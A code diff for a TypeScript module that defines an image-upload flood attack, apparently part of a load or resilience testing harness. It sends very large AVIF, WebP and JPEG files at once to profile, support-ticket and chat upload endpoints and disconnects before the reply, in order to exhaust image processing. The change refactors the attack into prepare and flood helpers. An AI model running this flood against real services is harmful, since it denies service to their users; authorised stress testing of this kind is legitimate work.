@@ -2,7 +2,7 @@ import { randomBytes } from 'node:crypto';
 import { once } from 'node:events';
 import { readFile } from 'node:fs/promises';
 import { setTimeout as delay } from 'node:timers/promises';
-import type { Attack, Target } from './attack.ts';
+import { floodOf, type Attack, type Target } from './attack.ts';
 
 type Picture = { name: string; bytes: Buffer };
 type Form = { path: string; field: string; fields: Record<string, string>; picture: Picture };
@@ -14,34 +14,30 @@ const patienceMs = 2000;
 export const pictures: Attack = {
   name: 'pictures',
   does: '6 at once upload an AVIF of 98 megapixels, WebPs of up to 25 MB and JPEGs of 49 megapixels, and leave before the answer',
-  async run(target) {
-    const { scene, isSmall } = target;
+  async prepare(isSmall) {
     const avif = { name: 'a.avif', bytes: await readFile(new URL('98-megapixels.avif', import.meta.url)) };
     const webp = { name: 'a.webp', bytes: await noise(isSmall ? 500 : 2880) };
     const jpeg = { name: 'a.jpg', bytes: await flat(isSmall ? 2000 : 7000) };
-    const room = {
-      path: `/api/chat/rooms/${scene.groupId}/upload`,
-      field: 'file',
-      fields: { type: 'image' },
-    };
-    const profile = { path: '/api/profile/image', field: 'image', fields: { kind: 'picture' } };
-    const ticket = {
-      path: '/api/support/tickets',
-      field: 'image',
-      fields: { title: 'Help', description: 'See the picture', priority: 'high' },
-    };
-    const forms: Form[] = [
-      { ...profile, picture: avif },
-      { ...ticket, picture: jpeg },
-      { ...room, picture: webp },
-      { ...room, picture: avif },
-    ];
-    const one = async (n: number) => {
-      for (let next = n; !target.time.aborted; next += 1) await upload(target, forms[next % forms.length]!);
-    };
-    await Promise.all(Array.from({ length: atOnce }, (_, n) => one(n)));
+    return (target) => uploadAll(target, { avif, webp, jpeg });
   },
 };
+
+async function uploadAll(target: Target, made: Record<'avif' | 'webp' | 'jpeg', Picture>): Promise<void> {
+  const room = `/api/chat/rooms/${target.scene.groupId}/upload`;
+  const profile = { path: '/api/profile/image', field: 'image', fields: { kind: 'picture' } };
+  const ticket = {
+    path: '/api/support/tickets',
+    field: 'image',
+    fields: { title: 'Help', description: 'See the picture', priority: 'high' },
+  };
+  const forms: Form[] = [
+    { ...profile, picture: made.avif },
+    { ...ticket, picture: made.jpeg },
+    { path: room, field: 'file', fields: { type: 'image' }, picture: made.webp },
+    { path: room, field: 'file', fields: { type: 'image' }, picture: made.avif },
+  ];
+  await floodOf(target, atOnce, (n) => upload(target, forms[n % forms.length]!));
+}
 
 /** Sends it whole, waits for a while, and goes. */
 async function upload(
